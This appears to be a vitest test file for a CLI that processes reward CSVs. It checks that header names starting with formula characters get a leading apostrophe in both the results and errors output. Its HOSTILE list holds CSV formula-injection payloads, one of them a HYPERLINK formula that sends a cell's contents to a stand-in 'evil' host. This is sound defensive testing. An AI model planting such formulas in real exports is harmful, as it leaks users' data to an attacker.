// Header names are cells too: a spreadsheet runs `=HYPERLINK(...)` in row 1 as readily as in row 2.
// Every CSV the tool writes (results, errors) gives them the same leading apostrophe as data cells.
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { runCli, workDir } from "../helpers/cli.ts";
import { simulator } from "../helpers/simulator.ts";

const HOSTILE = ['=HYPERLINK("http://evil/?"&A2,"x")', "+SUM(1;2)", "@cmd", "-2+3"];
const NEUTRALISED = HOSTILE.map((name) => `'${name}`);
const quoted = (cell: string): string => `"${cell.replace(/"/g, '""')}"`;

function rewards(directory: string, rows: string[]): string {
  const path = join(directory, "rewards.csv");
  writeFileSync(
    path,
    [["amount", "currency", "product_code", "email", ...HOSTILE].map(quoted).join(","), ...rows].join("\n") + "\n",
  );
  return path;
}

function header(path: string): string[] {
  return parse(readFileSync(path), { bom: true, to_line: 1 })[0]!;
}

describe("formula-safe headers", () => {
  it("neutralises hostile header names in the results CSV, keeping their columns' order", async () => {
    const sim = await simulator();
    const cwd = workDir();
    const input = rewards(cwd, ["10,USD,AMZ-US,a@example.com,x,y,z,w"]);
    const result = await runCli(["run", input, "--base-url", sim.url, "--rate", "3000"], { cwd });
    expect(result.code).toBe(0);
    const names = header(join(cwd, "output", "rewards.results.csv"));
    expect(names.slice(0, 8)).toEqual(["amount", "currency", "product_code", "email", ...NEUTRALISED]);
    for (const name of names) expect(name).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("neutralises them in the errors CSV too", async () => {
    const sim = await simulator();
    const cwd = workDir();
    const input = rewards(cwd, ["ten,USD,AMZ-US,a@example.com,x,y,z,w"]);
    const result = await runCli(["run", input, "--base-url", sim.url], { cwd });
    expect(result.code).toBe(2);
    const names = header(join(cwd, "output", "rewards.errors.csv"));
    expect(names).toEqual(["row", "error", "amount", "currency", "product_code", "email", ...NEUTRALISED]);
    expect(sim.state.countOrders()).toBe(0);
  });
});
